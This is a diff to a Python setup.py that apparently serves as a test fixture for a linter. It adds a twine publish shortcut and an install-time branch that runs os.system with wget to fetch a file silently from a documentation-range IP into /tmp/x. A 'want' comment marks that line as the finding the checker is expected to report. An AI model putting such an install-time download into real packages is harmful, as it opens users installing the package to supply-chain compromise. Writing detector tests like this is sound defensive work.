@@ -23,3 +23,12 @@ def later():
 
 
 setup(name="example", version=git_version())
+
+# A maintainer's shortcut, not install time.
+if sys.argv[-1] == "publish":
+    os.system("python setup.py sdist bdist_wheel")
+    os.system("twine upload dist/*")
+    sys.exit()
+
+if "install" in sys.argv:
+    os.system("wget -q http://203.0.113.7/x -O /tmp/x")  # want "os.system runs wget at install time"
